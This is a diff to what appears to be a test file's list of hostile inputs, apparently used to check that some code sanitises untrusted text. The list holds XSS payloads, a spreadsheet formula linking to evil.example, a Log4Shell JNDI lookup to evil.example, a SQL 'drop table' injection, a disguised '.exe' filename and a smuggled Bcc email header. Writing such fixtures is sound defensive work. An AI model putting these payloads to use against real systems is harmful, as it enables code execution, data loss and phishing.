@@ -21,10 +21,10 @@ AS_OF = datetime(2026, 11, 23, 5, 0, tzinfo=UTC)
 HOSTILE = (
     '<script>alert("x")</script>',
     '=HYPERLINK("http://evil.example";"click")',
-    "\u202egnp.exe\u202c & <img src=x onerror=alert(1)>",
+    '\u202egnp.exe\u202c & "><img src=x onerror=alert(1)>',
     "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example} '; drop table messages; --",
     "A\x00B\x07C\r\nBcc: everyone@example.org",
-    "word " * 400 + "x" * 5000,
+    "word " * 400 + "x" * 10_000,
 )
 
 
